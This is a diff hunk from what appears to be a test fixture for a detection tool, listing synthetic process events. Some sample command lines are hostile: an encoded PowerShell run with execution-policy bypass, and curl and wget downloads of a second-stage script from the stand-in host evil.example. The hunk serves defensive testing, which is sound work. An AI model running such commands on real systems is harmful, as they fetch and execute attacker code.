@@ -150,7 +150,7 @@ PROCESS = [
     proc("p12", at(5, 2), "WS03", "powershell -ex bypass -e JABzAD0A", TargetProcessName="powershell.exe"),
     proc("p13", at(6, 0), "WS03", "notepad 5000done", TargetProcessName="notepad.exe"),
     proc("p14", at(7, 0), "WS01", "cmd /c exit", TargetProcessName="cmd.exe"),  # at RANGE end: excluded
-    proc("p15", at(3, 7), "WS09", "curl -o s.ps1 HTTP://Evil.example/stage2.ps1", TargetProcessName="curl.exe"),
+    proc("p15", at(3, 7), "WS09", "curl -o s HTTP://Evil.example/stage2.ps1", TargetProcessName="curl.exe"),
     proc("p16", at(3, 8), "WS09", "wget evil.example/other", TargetProcessName="wget.exe"),
     proc("p17", at(3, 9), "WS09", "ping evil.example", TargetProcessName="ping.exe"),  # the host, no path
 ]
